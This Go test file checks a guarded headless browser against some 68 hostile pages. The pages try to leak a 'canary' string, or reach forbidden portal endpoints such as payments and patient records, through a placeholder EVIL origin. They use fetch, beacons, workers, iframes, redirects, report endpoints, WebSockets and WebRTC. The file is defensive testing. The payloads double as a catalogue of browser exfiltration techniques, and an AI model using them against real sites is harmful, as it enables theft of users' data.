package browser

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/go-rod/rod"
	"github.com/go-rod/rod/lib/launcher"
	"github.com/go-rod/rod/lib/proto"
)

// A trick is one way in which a page has something sent. `EVIL` in its page stands for another origin, `PORTAL` for
// the portal's own.
type trick struct {
	name string
	// page is the body of the page.
	page string
	// header is set on the page's answer.
	header http.Header
	// wall and reason say who must have stopped it and why; no reason if Chromium itself never tries under our flags.
	wall   Wall
	reason Reason
	// uncontrolled tricks are not demanded to work in an unguarded browser either, because they need what a test
	// server on loopback does not have.
	uncontrolled string
}

var tricks = []trick{
	{name: "fetch", page: `<script>fetch('EVIL/x?q=canary')</script>`, wall: InBrowser, reason: otherHost},
	{name: "fetch-post", page: `<script>fetch('EVIL/x', {method: 'POST', mode: 'no-cors', body: 'canary'})</script>`, wall: InBrowser, reason: otherHost},
	{name: "fetch-post-portal", page: `<script>fetch('/api/payments', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"amount": 1}'})</script>`, wall: InBrowser, reason: noRule},
	{name: "fetch-post-file", page: `<script>const f = new FormData(); f.append('x', new Blob(['canary']), 'x'); fetch('/api/exports?to=x', {method: 'POST', body: f})</script>`, wall: InBrowser, reason: bodyUnreadable},
	{name: "fetch-post-blob", page: `<script>fetch('/api/exports?to=x', {method: 'POST', body: new Blob(['{"amount": 1}'], {type: 'application/json'})})</script>`, wall: InBrowser, reason: bodyField},
	{name: "fetch-odd-method", page: `<script>fetch('/api/account', {method: 'MARY-SMITH'})</script>`, wall: InBrowser, reason: noMethod},
	{name: "fetch-delete-portal", page: `<script>fetch('/api/account', {method: 'DELETE'})</script>`, wall: InBrowser, reason: noMethod},
	{name: "xhr-post", page: `<script>const x = new XMLHttpRequest(); x.open('POST', '/api/payments'); x.send('a=1')</script>`, wall: InBrowser, reason: noRule},
	{name: "xhr-sync", page: `<script>const x = new XMLHttpRequest(); x.open('GET', '/api/patients/1', false); x.send()</script>`, wall: InBrowser, reason: noRule},
	{name: "form-post", page: `<form method=post action=/api/payments><input name=amount value=1></form><script>document.forms[0].submit()</script>`, wall: InBrowser, reason: noRule},
	{name: "form-post-evil", page: `<form method=post action=EVIL/x><input name=amount value=1></form><script>document.forms[0].submit()</script>`, wall: InBrowser, reason: otherHost},
	{name: "form-new-tab", page: `<form method=post action=EVIL/x target=_blank><input name=amount value=1></form><script>document.forms[0].submit()</script>`, wall: InBrowser, reason: otherHost},
	{name: "beacon", page: `<script>navigator.sendBeacon('/api/telemetry', 'canary')</script>`, wall: InBrowser, reason: noRule},
	{name: "beacon-evil", page: `<script>navigator.sendBeacon('EVIL/x', 'canary')</script>`, wall: InBrowser, reason: otherHost},
	{name: "ping", page: `<a href=#there ping=EVIL/x>x</a><script>document.querySelector('a').click()</script>`},
	{name: "prefetch", page: `<link rel=prefetch href=/patients/1>`, wall: InBrowser, reason: noRule},
	{name: "preload", page: `<link rel=preload as=fetch href=EVIL/x crossorigin>`, wall: InBrowser, reason: otherHost},
	{name: "modulepreload", page: `<link rel=modulepreload href=EVIL/x.js>`, wall: InBrowser, reason: otherHost},
	{name: "preconnect", page: `<link rel=preconnect href=EVIL><link rel=dns-prefetch href=EVIL>`, uncontrolled: "the headless shell does not connect ahead"},
	{name: "icon", page: `<link rel=icon href=EVIL/favicon.ico>`, uncontrolled: "a browser without a window asks for no icon"},
	{name: "image", page: `<img src=/api/patients/1/photo>`, wall: InBrowser, reason: noRule},
	{name: "image-evil", page: `<img src="EVIL/x?q=canary">`, wall: InBrowser, reason: otherHost},
	{name: "style", page: `<style>@import 'EVIL/x.css'; body { background: url(EVIL/y.png) }</style><p>x`, wall: InBrowser, reason: otherHost},
	{name: "font", page: `<style>@font-face { font-family: f; src: url(EVIL/f.woff2) } p { font-family: f }</style><p>x`, wall: InBrowser, reason: otherHost},
	{name: "script", page: `<script src=EVIL/x.js></script>`, wall: InBrowser, reason: otherHost},
	{name: "import", page: `<script type=module>import('EVIL/x.js')</script>`, wall: InBrowser, reason: otherHost},
	{name: "video", page: `<video src=EVIL/x.mp4 preload=auto></video>`, wall: InBrowser, reason: otherHost},
	{name: "svg", page: `<svg><image href=EVIL/x.svg /></svg>`, wall: InBrowser, reason: otherHost},
	{name: "eventsource", page: `<script>new EventSource('EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "iframe", page: `<iframe src=EVIL/x></iframe>`, wall: InBrowser, reason: otherHost},
	{name: "iframe-portal", page: `<iframe src=/patients/1></iframe>`, wall: InBrowser, reason: noRule},
	{name: "iframe-srcdoc", page: `<iframe srcdoc="<script>fetch('EVIL/x', {method: 'POST', mode: 'no-cors'})</script>"></iframe>`, wall: InBrowser, reason: otherHost},
	{name: "iframe-sandboxed", page: `<iframe sandbox=allow-scripts srcdoc="<img src=EVIL/x>"></iframe>`, wall: InBrowser, reason: otherHost},
	{name: "iframe-data", page: `<iframe src="data:text/html,<img src=EVIL/x>"></iframe>`, wall: InBrowser, reason: otherHost},
	{name: "object", page: `<object data=EVIL/x></object>`, uncontrolled: "our own policy takes objects away before they ask"},
	{name: "redirect", page: `<script>fetch('/redirect?to=EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "redirect-portal", page: `<img src="/redirect?to=PORTAL/api/patients/1/photo">`, wall: InBrowser, reason: noRule},
	{name: "redirect-post", page: `<script>fetch('/api/exports?to=EVIL/x', {method: 'POST', mode: 'no-cors'})</script>`, wall: InBrowser, reason: otherHost},
	{name: "redirect-navigation", page: `<script>location = '/redirect?to=EVIL/x'</script>`, wall: InBrowser, reason: otherHost},
	{name: "meta-refresh", page: `<meta http-equiv=refresh content="0; url=EVIL/x">`, wall: InBrowser, reason: otherHost},
	{name: "location", page: `<script>location = '/patients/1'</script>`, wall: InBrowser, reason: noRule},
	{name: "popup", page: `<script>open('EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "popup-portal", page: `<script>open('/patients/1')</script>`, wall: InBrowser, reason: noRule},
	{name: "popup-noopener", page: `<a href=EVIL/x target=_blank rel=noopener>x</a><script>document.querySelector('a').click()</script>`, wall: InBrowser, reason: otherHost},
	{name: "popup-script", page: `<script>const w = open('about:blank'); w.fetch('EVIL/x', {method: 'POST', mode: 'no-cors'})</script>`, wall: InBrowser, reason: otherHost},
	{name: "download-link", page: `<a href=EVIL/x download=x>x</a><script>document.querySelector('a').click()</script>`, wall: InBrowser, reason: otherHost},
	{name: "worker", page: `<script>new Worker('/assets/worker.js').postMessage('EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "worker-blob", page: `<script>new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/x', {method: 'POST', mode: 'no-cors'})"])))</script>`, wall: InBrowser, reason: otherHost},
	{name: "worker-nested", page: `<script>new Worker(URL.createObjectURL(new Blob(["new Worker('PORTAL/assets/worker.js').postMessage('EVIL/x')"])))</script>`, wall: InBrowser, reason: otherHost},
	{name: "worker-import", page: `<script>new Worker(URL.createObjectURL(new Blob(["importScripts('EVIL/x.js')"])))</script>`, wall: InBrowser, reason: otherHost},
	{name: "shared-worker", page: `<script>new SharedWorker('/assets/shared.js').port.postMessage('EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "service-worker", page: `<script>navigator.serviceWorker.register('/assets/service.js?to=EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "worklet", page: `<script>CSS.paintWorklet.addModule('EVIL/x.js')</script>`, wall: InBrowser, reason: otherHost},
	{name: "unload-keepalive", page: `<script>addEventListener('pagehide', () => fetch('EVIL/x', {method: 'POST', mode: 'no-cors', keepalive: true}))</script>`, wall: InBrowser, reason: otherHost},
	{name: "unload-beacon", page: `<script>addEventListener('pagehide', () => navigator.sendBeacon('EVIL/x', 'canary'))</script>`, wall: InBrowser, reason: otherHost},
	{name: "speculation", page: `<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["/patients/1"], "eagerness": "immediate"}], "prerender": [{"source": "list", "urls": ["/patients/2"], "eagerness": "immediate"}]}</script>`, wall: InProxy, reason: noRule},
	{name: "csp-report", page: `<img src=/api/patients/1/photo>`, header: http.Header{"Content-Security-Policy": {"img-src 'none'; report-uri EVIL/x"}}, wall: InBrowser, reason: otherHost},
	{name: "link-header", page: `<p>x`, header: http.Header{"Link": {"<EVIL/x>; rel=preload; as=image"}}, wall: InBrowser, reason: otherHost},
	{name: "refresh-header", page: `<p>x`, header: http.Header{"Refresh": {"0; url=EVIL/x"}}, wall: InBrowser, reason: otherHost},
	{name: "reporting", page: `<script>document.write('<p>x')</script>`, header: http.Header{"Reporting-Endpoints": {`default="EVIL/x"`}, "Document-Policy": {"document-write=?0"}}, uncontrolled: "reports wait a minute"},
	{name: "websocket-evil", page: `<script>new WebSocket('EVIL/x'.replace('http', 'ws'))</script>`, wall: InProxy, reason: tunnel},
	{name: "websocket-portal", page: `<script>new WebSocket('PORTAL/cable'.replace('http', 'ws'))</script>`, wall: InProxy, reason: tunnel},
	{name: "websocket-worker", page: `<script>new Worker(URL.createObjectURL(new Blob(["new WebSocket('PORTAL/cable'.replace('http', 'ws'))"])))</script>`, wall: InProxy, reason: tunnel},
	{name: "websocket-popup", page: `<script>const w = open('about:blank'); new w.WebSocket('PORTAL/cable'.replace('http', 'ws'))</script>`, wall: InProxy, reason: tunnel},
	{name: "websocket-data", page: `<iframe src="data:text/html,<script>new WebSocket('PORTAL/cable'.replace('http', 'ws'))</script>"></iframe>`, wall: InProxy, reason: tunnel},
	{name: "webrtc", page: `<script>const c = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))</script>`},
	{name: "webtransport", page: `<script>new WebTransport('https://UDP/x')</script>`},
}

// A hostileWorld is a portal that serves the tricks, another server, and a UDP socket, all of which note what arrives.
type hostileWorld struct {
	portal, evil string
	udp          string
	mu           sync.Mutex
	atPortal     []string
	atEvil       []string
	evilContacts int
	packets      int
}

func newHostileWorld(t *testing.T) *hostileWorld {
	w := &hostileWorld{}
	w.portal = serve(t, http.HandlerFunc(w.servePortal), nil)
	w.evil = serve(t, http.HandlerFunc(w.serveEvil), func() {
		w.mu.Lock()
		defer w.mu.Unlock()
		w.evilContacts++
	})
	packets, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var reading sync.WaitGroup
	reading.Go(func() {
		for buffer := make([]byte, 2048); ; {
			if _, _, err := packets.ReadFrom(buffer); err != nil {
				return
			}
			w.mu.Lock()
			w.packets++
			w.mu.Unlock()
		}
	})
	t.Cleanup(func() { packets.Close(); reading.Wait() })
	w.udp = packets.LocalAddr().String()
	return w
}

func (w *hostileWorld) fill(text string) string {
	return strings.NewReplacer("EVIL", w.evil, "PORTAL", w.portal, "UDP", w.udp).Replace(text)
}

func (w *hostileWorld) serveEvil(_ http.ResponseWriter, r *http.Request) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.atEvil = append(w.atEvil, r.Method+" "+r.URL.Path)
}

const sendOnMessage = `onmessage = e => fetch(e.data, {method: 'POST', mode: 'no-cors', body: 'canary'})`

func (w *hostileWorld) servePortal(out http.ResponseWriter, r *http.Request) {
	w.mu.Lock()
	w.atPortal = append(w.atPortal, r.Method+" "+r.URL.Path)
	w.mu.Unlock()
	script := func(text string) {
		out.Header().Set("Content-Type", "text/javascript")
		io.WriteString(out, text)
	}
	switch {
	case strings.HasPrefix(r.URL.Path, "/trick/"):
		name := strings.TrimPrefix(r.URL.Path, "/trick/")
		at := slices.IndexFunc(tricks, func(t trick) bool { return t.name == name })
		if at < 0 {
			http.NotFound(out, r)
			return
		}
		for key, values := range tricks[at].header {
			out.Header().Set(key, w.fill(values[0]))
		}
		out.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(out, `<!doctype html><title>%s</title>%s`, name, w.fill(tricks[at].page))
	case r.URL.Path == "/redirect":
		http.Redirect(out, r, r.URL.Query().Get("to"), http.StatusFound)
	case r.URL.Path == "/api/exports":
		http.Redirect(out, r, r.URL.Query().Get("to"), http.StatusTemporaryRedirect)
	case r.URL.Path == "/assets/worker.js":
		script(sendOnMessage)
	case r.URL.Path == "/assets/shared.js":
		script(`onconnect = e => { const p = e.ports[0]; p.onmessage = m => fetch(m.data, {method: 'POST', mode: 'no-cors', body: 'canary'}) }`)
	case r.URL.Path == "/assets/service.js":
		script(`oninstall = e => e.waitUntil(fetch(new URL(location).searchParams.get('to'), {method: 'POST', mode: 'no-cors'}))`)
	case r.URL.Path == "/cable":
		out.WriteHeader(http.StatusBadRequest)
	case r.URL.Path == "/api/account":
		io.WriteString(out, `{}`)
	default:
		io.WriteString(out, "a page that must not be opened")
	}
}

// hostileRules allow what the tricks start from, and nothing that they are after.
var hostileRules = []Rule{
	{Purpose: "open the page", Method: "GET", Path: "/trick/:id"},
	{Purpose: "follow a redirect", Method: "GET", Path: "/redirect", Query: []string{"to"}},
	{Purpose: "start an export", Method: "POST", Path: "/api/exports", Query: []string{"to"}},
	{Purpose: "load a worker", Method: "GET", Path: "/assets/worker.js"},
	{Purpose: "load a shared worker", Method: "GET", Path: "/assets/shared.js"},
	{Purpose: "load a service worker", Method: "GET", Path: "/assets/service.js", Query: []string{"to"}},
	{Purpose: "read the account", Method: "GET", Path: "/api/account"},
}

func TestHostilePages(t *testing.T) {
	t.Parallel()
	w := newHostileWorld(t)
	s := startSession(t, Config{Origin: mustOrigin(t, w.portal), Rules: hostileRules, Words: []string{"api", "payments", "patients", "photo", "telemetry", "cable"}})
	for _, trick := range tricks {
		before := s.Ledger().Entries()
		play(t, s.rod, w.portal, trick, func() bool {
			return trick.reason == "" || slices.ContainsFunc(s.Ledger().Entries(), func(e Entry) bool {
				return !e.Allowed && e.Wall == trick.wall && e.Reason == trick.reason && e.Count > countOf(before, e)
			})
		})
	}
	if err := s.Close(); err != nil {
		t.Error(err)
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.evilContacts != 0 || len(w.atEvil) != 0 {
		t.Errorf("the other server was contacted %d times and received %q", w.evilContacts, w.atEvil)
	}
	if w.packets != 0 {
		t.Errorf("%d UDP packets left the browser", w.packets)
	}
	for _, got := range w.atPortal {
		if _, path, _ := strings.Cut(got, " "); !slices.ContainsFunc(hostileRules, func(r Rule) bool { return r.matchesPath(segments(path)) }) {
			t.Errorf("the portal received %s", got)
		}
	}
}

func countOf(entries []Entry, like Entry) int {
	like.Count = 0
	for _, e := range entries {
		n := e.Count
		e.Count = 0
		if e == like {
			return n
		}
	}
	return 0
}

// play opens a trick's page in a tab of its own and closes the tab when done holds, or, for what happens only then,
// closes it first.
func play(t *testing.T, b *rod.Browser, portal string, trick trick, done func() bool) {
	t.Helper()
	name := trick.name
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	page, err := b.Context(ctx).Page(proto.TargetCreateTarget{})
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	if err := page.Navigate(portal + "/trick/" + name); err != nil && !strings.Contains(err.Error(), "ERR_ABORTED") {
		t.Errorf("%s: %v", name, err)
	}
	if trick.reason == "" {
		// Nothing will say that the trick was tried. The page's own requests go out in order, so a few of them are time
		// enough for what was begun before.
		_, _ = page.Eval(`async () => { for (let i = 0; i < 3; i++) { await fetch('/api/account'); await new Promise(r => setTimeout(r)) } }`)
	}
	atUnload := strings.HasPrefix(name, "unload-")
	if atUnload {
		if err := page.WaitLoad(); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	} else {
		eventually(t, name, done)
	}
	if _, err := (proto.TargetCloseTarget{TargetID: page.TargetID}).Call(b.Context(ctx)); err != nil {
		t.Errorf("%s: closing the tab: %v", name, err)
	}
	if atUnload {
		eventually(t, name, done)
	}
}

// TestTricksWork plays the same pages in an unguarded browser: a trick that does not work proves nothing.
func TestTricksWork(t *testing.T) {
	t.Parallel()
	w := newHostileWorld(t)
	path, err := Find(t.Context(), "", false)
	if err != nil {
		t.Fatal(err)
	}
	l := launcher.New().Bin(path).Leakless(false).NoSandbox(true).Headless(true).UserDataDir(t.TempDir()).Set("disable-popup-blocking")
	control, err := l.Launch()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(l.Kill)
	b := rod.New().ControlURL(control)
	if err := b.Connect(); err != nil {
		t.Fatal(err)
	}
	for _, trick := range tricks {
		before := w.reached()
		play(t, b, w.portal, trick, func() bool { return trick.uncontrolled != "" || w.reached() > before })
	}
}

// reached counts what arrived where nothing should.
func (w *hostileWorld) reached() int {
	w.mu.Lock()
	defer w.mu.Unlock()
	n := w.evilContacts + len(w.atEvil) + w.packets
	for _, got := range w.atPortal {
		method, path, _ := strings.Cut(got, " ")
		if !slices.ContainsFunc(hostileRules, func(r Rule) bool { return r.Method == method && r.matchesPath(segments(path)) }) {
			n++
		}
	}
	return n
}
